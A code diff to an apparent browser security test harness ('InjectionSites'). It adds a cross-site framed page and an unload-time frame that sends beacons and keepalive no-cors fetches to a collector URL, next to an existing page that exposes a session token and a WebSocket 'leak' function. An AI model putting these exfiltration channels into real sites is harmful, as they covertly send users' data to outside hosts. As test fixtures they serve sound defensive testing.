@@ -154,6 +154,18 @@ InjectionSites::InjectionSites() : m(std::make_unique<Impl>()) {
       res.body = page("Live", "", "<h1>Live</h1><p>Your session token: <code id=token>" + std::string(kToken) + "</code></p>"
                       "<script>const ws = new WebSocket('ws" + collector_url.substr(4) + "/live-ws'); "
                       "window.leak = (s) => { try { ws.send(s); } catch (e) {} };</script>");
+    } else if (p == "/framed") {
+      // A page with a frame on another site (localhost is not 127.0.0.1: another renderer).
+      std::string own = self->victim->url("");
+      std::string other = "http://localhost" + own.substr(own.rfind(':'));
+      std::string tag = r.param("tag").value_or("");
+      std::erase_if(tag, [](char c) { return !std::isalnum(static_cast<unsigned char>(c)); });
+      res.body = page("Framed", "", "<h1>Framed</h1><iframe id=other src='" + other + "/unload-frame?tag=" + tag + "'></iframe>");
+    } else if (p == "/unload-frame") {
+      // It sends as it is unloaded (pagehide and unload, a beacon and a keepalive fetch).
+      res.body = page("Frame", "", "<p>frame</p><script>const send = (k) => { navigator.sendBeacon('" + collector_url + "/unload-' + k + location.search, 'x'); "
+                      "fetch('" + collector_url + "/unload-' + k + '-fetch' + location.search, {method: 'POST', body: 'x', keepalive: true, mode: 'no-cors'}); };"
+                      "addEventListener('pagehide', () => send('pagehide')); addEventListener('unload', () => send('unload'));</script>");
     } else if (p == "/sw-sent") {
       res.body = "ok";
     } else if (p == "/many") {
